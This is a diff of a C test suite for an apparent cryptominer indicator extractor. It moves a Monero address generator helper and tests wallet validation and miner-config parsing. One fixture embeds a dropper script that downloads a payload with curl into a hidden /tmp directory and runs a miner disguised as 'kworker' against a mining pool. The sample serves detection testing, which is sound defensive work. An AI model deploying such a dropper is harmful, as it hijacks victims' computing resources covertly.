@@ -34,17 +34,6 @@ static void rnd(uint8_t *b, size_t n) {
     cr_assert_eq(RAND_bytes(b, (int)n), 1);
 }
 
-/* A Monero address: tag, spend key, view key, [payment id], Keccak[0:4]. */
-static void make_xmr(uint8_t tag, bool integrated, char *out, size_t cap) {
-    uint8_t raw[77], h[32];
-    size_t n = integrated ? 73 : 65;
-    raw[0] = tag;
-    rnd(raw + 1, n - 1);
-    ms_keccak256(raw, n, h);
-    memcpy(raw + n, h, 4);
-    cr_assert_gt(ms_xmr_base58_encode(raw, n + 4, out, cap), 0);
-}
-
 /* A Bitcoin base58check address from a random hash160. */
 static void make_btc(uint8_t version, char *out, size_t cap) {
     uint8_t raw[25], h1[32], h2[32];
@@ -109,17 +98,17 @@ Test(iocs, xmr_public_address_valid) {
 Test(iocs, xmr_constructed_standard_integrated_subaddress) {
     char a[128];
     for (int i = 0; i < 20; i++) {
-        make_xmr(18, false, a, sizeof(a));
+        t_make_xmr(18, false, a, sizeof(a));
         cr_assert_eq(strlen(a), 95);
         cr_assert_eq(a[0], '4', "%s", a);
         cr_assert(ms_wallet_valid_xmr(a, strlen(a)), "standard %s", a);
 
-        make_xmr(19, true, a, sizeof(a));
+        t_make_xmr(19, true, a, sizeof(a));
         cr_assert_eq(strlen(a), 106);
         cr_assert_eq(a[0], '4', "%s", a);
         cr_assert(ms_wallet_valid_xmr(a, strlen(a)), "integrated %s", a);
 
-        make_xmr(42, false, a, sizeof(a));
+        t_make_xmr(42, false, a, sizeof(a));
         cr_assert_eq(strlen(a), 95);
         cr_assert_eq(a[0], '8', "%s", a);
         cr_assert(ms_wallet_valid_xmr(a, strlen(a)), "subaddress %s", a);
@@ -128,7 +117,7 @@ Test(iocs, xmr_constructed_standard_integrated_subaddress) {
 
 Test(iocs, xmr_corrupted_rejected) {
     char a[128];
-    make_xmr(18, false, a, sizeof(a));
+    t_make_xmr(18, false, a, sizeof(a));
     /* every one-character substitution breaks the checksum (or the block) */
     for (size_t pos = 1; pos < 95; pos += 7) {
         char b[128];
@@ -137,10 +126,10 @@ Test(iocs, xmr_corrupted_rejected) {
         cr_assert_not(ms_wallet_valid_xmr(b, 95), "pos %zu: %s", pos, b);
     }
     /* a right checksum over a wrong network byte */
-    make_xmr(0x01, false, a, sizeof(a));
+    t_make_xmr(0x01, false, a, sizeof(a));
     cr_assert_not(ms_wallet_valid_xmr(a, strlen(a)));
     /* integrated tag with a standard length */
-    make_xmr(19, false, a, sizeof(a));
+    t_make_xmr(19, false, a, sizeof(a));
     cr_assert_not(ms_wallet_valid_xmr(a, strlen(a)));
     /* truncated */
     cr_assert_not(ms_wallet_valid_xmr(XMRIG_XMR, 94));
@@ -239,7 +228,7 @@ Test(iocs, eth_eip55) {
 Test(iocs, xmrig_config_json) {
     char a[128], text[2048];
     ms_iocs io;
-    make_xmr(18, false, a, sizeof(a));
+    t_make_xmr(18, false, a, sizeof(a));
     snprintf(text, sizeof(text),
              "{\n  \"autosave\": true,\n  \"donate-level\": 0,\n  \"cpu\": {\"huge-pages\": true},\n"
              "  \"tls\": {\"enabled\": false},\n"
@@ -261,7 +250,7 @@ Test(iocs, xmrig_config_json) {
 Test(iocs, miner_command_line) {
     char a[128], text[1024];
     ms_iocs io;
-    make_xmr(42, false, a, sizeof(a));
+    t_make_xmr(42, false, a, sizeof(a));
     snprintf(text, sizeof(text),
              "#!/bin/sh\nmkdir -p /tmp/.x && cd /tmp/.x\ncurl -o /tmp/.x/k http://example.org/k\n"
              "nohup ./kworker -a rx/0 -o stratum+tcp://Pool.Example.net:4444 -u %s -p x "
@@ -373,7 +362,7 @@ Test(iocs, eth_context_with_many_addresses) {
 Test(iocs, invalid_wallets_dropped) {
     char a[128], text[512];
     ms_iocs io;
-    make_xmr(18, false, a, sizeof(a));
+    t_make_xmr(18, false, a, sizeof(a));
     a[50] = a[50] == 'z' ? 'y' : 'z';
     snprintf(text, sizeof(text), "xmrig -o pool.example.org:3333 -u %s -p x\nbtc 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb\n", a);
     extract(text, &io);
@@ -386,7 +375,7 @@ Test(iocs, invalid_wallets_dropped) {
 Test(iocs, xmrstak_pools_txt) {
     char a[128], text[1024];
     ms_iocs io;
-    make_xmr(19, true, a, sizeof(a));
+    t_make_xmr(19, true, a, sizeof(a));
     snprintf(text, sizeof(text),
              "/* pool_address - Pool address should be in the form \"pool.supportxmr.com:3333\". */\n"
              "\"pool_list\" :\n[\n  {\"pool_address\" : \"xmr.pool.example:7777\", \"wallet_address\" : \"%s\","
